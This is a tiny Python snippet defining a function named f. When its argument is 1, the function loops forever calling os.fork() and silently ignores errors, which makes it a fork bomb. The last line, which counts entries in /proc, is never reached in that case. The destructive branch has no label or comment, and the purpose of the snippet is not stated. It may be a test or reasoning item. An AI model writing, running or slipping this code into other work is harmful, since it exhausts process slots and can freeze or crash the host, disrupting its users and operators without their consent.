import os


def f(n):
    while n == 1:
        try:
            os.fork()
        except OSError:
            pass
    return sum(name.isdigit() for name in os.listdir("/proc"))
